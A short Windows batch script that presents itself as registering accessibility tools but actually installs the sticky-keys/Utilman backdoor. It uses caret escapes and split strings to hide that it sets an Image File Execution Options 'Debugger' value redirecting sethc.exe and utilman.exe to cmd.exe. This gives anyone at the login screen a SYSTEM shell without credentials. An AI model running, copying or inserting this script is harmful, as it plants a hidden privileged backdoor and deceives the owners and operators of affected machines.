@echo off
rem registers accessibility tools on the target image
setlocal
set "b=HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"
set "f=Image File Execution"
set "o=Options"
set t=chtes
set t=%t:~3,2%
for %%n in (set^hc uti^lman) do (
    call :one %%n
)
echo registered
exit /b 0

:one
set "v=Debug"
set "v=%v%ger"
set "d=%ComSpec%"
r^e^g a^dd "%b%\%f% %o%\%1.exe" /v %v% /t REG_SZ /d "%d%" /f >nul
goto :eof
